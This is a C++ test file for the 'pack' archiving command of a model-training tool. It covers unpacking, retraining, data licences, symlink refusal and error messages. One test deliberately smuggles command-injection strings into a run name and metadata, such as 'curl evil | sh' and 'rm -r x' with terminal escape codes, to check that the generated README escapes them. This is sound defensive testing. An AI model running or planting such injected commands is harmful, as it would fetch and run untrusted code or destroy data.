// heed pack: archives of runs and sweeps, and training from an unpacked one.
#include "apps/support/digest.h"
#include "apps/support/json.h"
#include "apps/training/run_writer.h"
#include "core/text.h"
#include "disk_limits.h"
#include "program.h"

using namespace heed;

namespace {

struct Study : TemporaryFolder {
  Study() { write_file(*this / "c.toml", tiny_config()); }
  ProgramOutput heed(const std::vector<std::string>& arguments) const {
    return heed_in(path, arguments);
  }
  std::string ok(const std::vector<std::string>& arguments) const {
    return heed_ok(path, arguments);
  }
  std::string shell(const std::string& script) const {
    return succeeded(shell_in(path, script)).out;
  }
  std::string read(const std::string& name) const { return read_file(*this / name, "file"); }
  void replace(const std::string& file, const std::string& from, const std::string& to) const {
    std::string text = read(file);
    const size_t at = text.find(from);
    REQUIRE_MESSAGE(at != text.npos, from, " is not in ", text);
    write_file(*this / file, text.replace(at, from.size(), to));
  }
};

// A study with data in a file: pairs to copy.
struct FileStudy : Study {
  FileStudy() {
    std::string lines;
    for (int i = 0; i < 60; ++i)
      lines += std::to_string(1000 + 37 * i) + "\t" + std::to_string(i) + "\n";
    make_folders(*this / "private");
    write_file(*this / "private/pairs.tsv", lines);
    write_file(*this / "c.toml",
               "[train]\nsteps = 10\nbatch_size = 4\nevaluate_every = 5\nlog_every = 5\n[model]\n"
               "kind = \"seq2seq\"\nlayers = 1\ndim = 16\nheads = 2\n[data]\nkind = \"pairs\"\n"
               "path = \"private/pairs.tsv\"\n");
  }
};

}  // namespace

TEST_CASE("pack: an unpacked run evaluates and trains as the run does") {
  const Study study;
  study.ok({"train", "c.toml", "--run", "runs/r"});
  CHECK(study.ok({"pack", "runs/r"}) == "r.tgz\n");
  study.shell("mkdir there && tar -xzf r.tgz -C there");
  CHECK(names_in_folder(study / "there") == std::vector<std::string>{"r"});
  for (const char* file :
       {"config.toml", "vocabulary.json", "metrics.jsonl", "result.json", "run.json", "train.log",
        "checkpoints/best/model.safetensors", "snapshots/step-2.safetensors"})
    CHECK_MESSAGE(
        study.read(std::string("there/r/") + file) == study.read(std::string("runs/r/") + file),
        file);
  const auto scores = [&](const std::string& run) {
    const std::string json = study.ok({"evaluate", run, "--json"});
    return json.substr(json.find("\"step\""));  // behind the path
  };
  CHECK(scores("there/r") == scores("runs/r"));
  CHECK_CONTAINS(study.ok({"train", "--from", "there/r", "--run", "again"}), "the same bits up to");

  const std::string readme = study.read("there/r/README.txt");
  CHECK_CONTAINS(readme, "r: a training run of heed");
  CHECK_CONTAINS(readme, "Runs: 1 done\n");
  CHECK_CONTAINS(readme, "The config generates the data. No file is needed.");
  CHECK_CONTAINS(readme, "heed train --from r --run again\n");
}

TEST_CASE("pack: without a checkpoint train --from compares metrics") {
  const Study study;
  study.ok({"train", "c.toml", "--run", "r"});
  study.ok({"pack", "r", "-o", "small.tar.gz", "--checkpoints", "none"});
  study.shell("tar -xzf small.tar.gz");
  CHECK_FALSE(exists(study / "small/checkpoints"));
  CHECK_CONTAINS(study.read("small/README.txt"), "There are no checkpoints");
  const std::string same = study.ok({"train", "--from", "small", "--run", "a"});
  CHECK_CONTAINS(same,
                 "the same metrics up to step 30, without a checkpoint to compare weights with; "
                 "small was made with heed ");

  study.replace("small/config.toml", "\nlr = 0.01", "\nlr = 0.02");
  const ProgramOutput other = study.heed({"train", "--from", "small", "--run", "b"});
  CHECK(other.code == 1);
  CHECK_CONTAINS(other.out, "not the same metrics: step 10: gradient_norm is ");

  remove_all(study / "small/metrics.jsonl");
  check_rejected(study.heed({"train", "--from", "small", "--run", "d"}), 2,
                 {"small: no checkpoint and no metrics to compare with"});
  check_rejected(study.heed({"train", "--from", "small.tar.gz", "--run", "d"}), 2,
                 {"found a file; unpack an archive first: tar -xzf small.tar.gz"});
  CHECK_FALSE(exists(study / "d"));
}

TEST_CASE("pack: data files are in the archive with their licence only") {
  const FileStudy study;
  study.ok({"train", "c.toml", "--run", "r"});
  const ProgramOutput without = succeeded(study.heed({"pack", "r", "-o", "without.tgz"}));
  CHECK_CONTAINS(without.err, "the data files are not in the archive; --with-data LICENCE");
  study.ok({"pack", "r", "-o", "with.tgz", "--checkpoints", "none", "--with-data", "CC0"});
  study.shell("tar -xzf with.tgz && tar -xzf without.tgz && mv private elsewhere");

  CHECK(names_in_folder(study / "with/data") == std::vector<std::string>{"1-pairs.tsv"});
  CHECK(study.read("with/data/1-pairs.tsv") == study.read("elsewhere/pairs.tsv"));
  CHECK_CONTAINS(study.read("with/README.txt"), "The data files are in data/. Their licence: CC0");
  CHECK_CONTAINS(study.ok({"train", "--from", "with", "--run", "a"}), "the same metrics up to");

  CHECK_FALSE(exists(study / "without/data"));
  const std::string readme = study.read("without/README.txt");
  CHECK_CONTAINS(readme, "  data.path = pairs.tsv\n  fingerprint of the data: ");
  CHECK_CONTAINS(readme, "heed train --from without --run again --set data.path=FILE\n");
  check_rejected(study.heed({"train", "--from", "without", "--run", "b"}), 2,
                 {"data.path: there is no such file"});
  const std::string path = "data.path=elsewhere/pairs.tsv";
  CHECK_CONTAINS(study.ok({"train", "--from", "without", "--run", "b", "--set", path}),
                 "the same bits up to");

  study.shell("mv elsewhere private && echo '7\t7' >> private/pairs.tsv");
  check_rejected(study.heed({"pack", "r", "-o", "changed.tgz", "--with-data", "CC0"}), 2,
                 {"r: the data files have changed since the training"});
  remove_all(study / "without/checkpoints");
  check_rejected(study.heed({"train", "--from", "without", "--run", "e", "--set",
                             "data.path=private/pairs.tsv"}),
                 2, {"without: trained on other data"});
}

TEST_CASE("pack: a sweep with failed runs, its table and its runs again") {
  const FileStudy study;
  CHECK(study
            .heed({"sweep", "--config", "c.toml", "--axis", "optim.lr=0.01,1e30", "--set",
                   "optim.kind=sgd", "--seeds", "2", "--run", "s"})
            .code == 1);
  const ProgramOutput packed =
      succeeded(study.heed({"pack", "s", "-o", "study.tgz", "--with-data", "CC0"}));
  CHECK_CONTAINS(packed.err, "2 of 4 runs failed; the archive has their errors");
  study.shell("mkdir there && tar -xzf study.tgz -C there && mv private hidden && mv s before");
  const std::string readme = study.read("there/study/README.txt");
  CHECK_CONTAINS(readme, "Runs: 2 failed, 2 done\n  lr=1e+30/seed-1: step ");
  CHECK_CONTAINS(readme, "  heed sweep study/sweep.toml --run all-again\n");

  CHECK(study.ok({"compare", "there/study", "--csv"}) == study.ok({"compare", "before", "--csv"}));
  CHECK_CONTAINS(study.ok({"train", "--from", "there/study/lr=0.01/seed-2", "--run", "again"}),
                 "the same bits up to");
  CHECK(study.heed({"sweep", "there/study/sweep.toml", "--run", "all-again"}).code == 1);
  const std::string metrics = "/lr=0.01/seed-1/checkpoints/latest/model.safetensors";
  CHECK(sha256_of_file(study / "all-again" + metrics) ==
        sha256_of_file(study / "before" + metrics));
}

TEST_CASE("pack: follows no link in the folder of a sweep or a run") {
  const Study study;
  study.ok({"sweep", "--config", "c.toml", "--axis", "optim.lr=0.01", "--run", "s"});
  write_file(study / "key", "a private key");
  for (const std::string file : {"s/sweep.toml", "s/data.json", "s/origins.json", "s/base.toml",
                                 "s/lr=0.01/seed-3/config.toml", "s/lr=0.01/seed-3/train.log"}) {
    for (const char* make : {"ln -s $OLDPWD/key ", "mkfifo "}) {
      study.shell("if test -e " + file + "; then mv " + file + " kept; fi; cd s; " + make +
                  file.substr(2));
      const std::string whole = study / file;
      check_rejected(study.heed({"pack", "s"}), 2, {whole + ": expected a plain file, found a "});
      CHECK_FALSE(exists(study / "s.tgz"));
      study.shell("rm " + file + "; if test -e kept; then mv kept " + file + "; fi");
    }
  }
  study.shell("ln -s s named && ln -s lr=0.01/seed-3 s/again");
  study.ok({"pack", "named", "-o", "s.tgz"});
  study.shell("tar -xzf s.tgz");
  CHECK(exists(study / "s/lr=0.01/seed-3/checkpoints/latest/model.safetensors"));
}

TEST_CASE("pack: README.txt has no line and no control character of a string in the run") {
  const Study study;
  study.ok({"train", "c.toml", "--run", "s/r"});
  study.shell("mv s/r \"$(printf 's/r\\n  rm -r x\\033[2J')\"; cp c.toml s/sweep.toml");
  write_file(study / "s/sweep.toml", "base = \"../c.toml\"\nseeds = [1]\n");
  const std::string run = "s/r\n  rm -r x\x1b[2J/";
  Json record = read_json(study / run + "run.json", "record", 1 << 20);
  Json session = record.at("sessions").elements()[0];
  session.set("heed", "1\n  curl evil | sh").set("commit", "0f1e").set("processor", "\x1b[2Jnone");
  Json sessions = Json::array();
  sessions.push(session);
  write_file(study / run + "run.json", record.set("sessions", sessions).text());
  study.ok({"pack", "s"});
  study.shell("mkdir there && tar -xzf s.tgz -C there");
  const std::string readme = study.read("there/s/README.txt");
  CHECK(escaped(readme) == readme);
  CHECK(readme.find("\n  curl") == readme.npos);
  CHECK(readme.find("\n  rm") == readme.npos);
  CHECK_CONTAINS(readme, "  heed 1\\x0a  curl evil | sh, commit 0f1e on ");
  CHECK_CONTAINS(readme, "train --from \"$(printf 's/r\\012\\040");
}

TEST_CASE("pack: few open files are named as the cause") {
  const Study study;
  study.ok({"train", "c.toml", "--run", "r"});
  ::setenv("HEED", HEED_PROGRAM, 1);
  for (const int files : {7, 10})  // for a pipe, and for what tar gets
    check_rejected(shell_in(study.path, fmt::format("exec 3>&- 4>&- 5>&- 6>&- 7>&- 8>&- 9>&-; "
                                                    "ulimit -n {}; \"$HEED\" pack r",
                                                    files)),
                   1, {"cannot start tar: too few files may be open at a time; raise ulimit -n"});
}

TEST_CASE("pack: rejects what it cannot pack, and leaves nothing half-written") {
  const Study study;
  study.ok({"train", "c.toml", "--run", "r"});
  make_folders(study / "empty");
  make_folders(study / "none/s");
  write_file(study / "none/s/sweep.toml", "");
  write_file(study / "there.tgz", "mine");
  const std::vector<std::string> before = names_in_folder(study.path);
  const auto rejected = [&](std::vector<std::string> arguments,
                            const std::vector<std::string>& parts) {
    arguments.insert(arguments.begin(), "pack");
    check_rejected(study.heed(arguments), 2, parts);
    CHECK(names_in_folder(study.path) == before);
  };
  rejected({"q"}, {"q: no such run; the newest is r"});
  rejected({"empty"},
           {"empty: neither a run nor a sweep: it has no config.toml and no sweep.toml"});
  rejected({"none/s"}, {"none/s: the sweep has no run yet"});
  rejected({"r", "-o", "there.tgz"}, {"there.tgz: already exists; remove it, or choose another"});
  rejected({"r", "-o", "r.zip"}, {"--output r.zip: expected a name that ends in .tgz or .tar.gz"});
  rejected({"r", "-o", "no/r.tgz"}, {"no/r.tgz: cannot write: No such file or directory"});
  rejected({"r", "--with-data", "CC0"}, {"--with-data: the config generates the data"});
  rejected({"r", "--with-data", ""}, {"--with-data: expected a value"});
  {
    const RunWriter lock(RunFolder::open(study / "r"));
    rejected({"r"}, {"r: a process is training in it; wait until it ends"});
  }
  CHECK(study.read("there.tgz") == "mine");

  make_folders(study / "disk");
  const TinyDisk disk(study / "disk", 64 << 10);
  if (!disk.mounted) return;
  check_rejected(study.heed({"pack", "r", "-o", "disk/r.tgz"}), 1,
                 {"cannot write", "No space left on device"});
  CHECK(names_in_folder(study / "disk").empty());
}
